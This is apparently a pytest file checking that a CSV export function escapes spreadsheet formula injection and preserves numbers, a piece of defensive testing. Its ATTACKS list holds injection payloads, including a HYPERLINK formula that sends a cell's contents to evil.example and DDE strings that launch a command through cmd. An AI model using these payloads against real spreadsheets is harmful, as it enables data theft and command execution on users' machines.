"""Sheets that are opened in spreadsheets: no text of anybody becomes a formula, and numbers can be added up."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nousnous.base.sheets import as_csv

FORMULA = re.compile(r"\s*[=+\-@\t\r\n＝＋－＠]")
ATTACKS = (
    '=HYPERLINK("https://evil.example?"&A1,"see")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '"=1+1',
    'x",=1+1',
    "x\n=1+1",
    "＝1+1",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_in_any_cell_or_head_stays_a_text(attack: str) -> None:
    rows = list(csv.reader(io.StringIO(as_csv([{attack: attack, "n": -0.5}]), newline="")))
    assert [len(row) for row in rows] == [2, 2]
    assert not any(FORMULA.match(cell) for cell in (rows[0][0], rows[1][0]))
    assert float(rows[1][1]) == -0.5


@given(st.text(), st.floats(allow_nan=False), st.integers())
def test_texts_come_back_and_numbers_are_numbers(text: str, value: float, count: int) -> None:
    (row,) = csv.DictReader(io.StringIO(as_csv([{"text": text, "value": value, "count": count}]), newline=""))
    assert row["text"] in {text, f"'{text}"}
    assert (float(row["value"]), int(row["count"])) == (value, count)
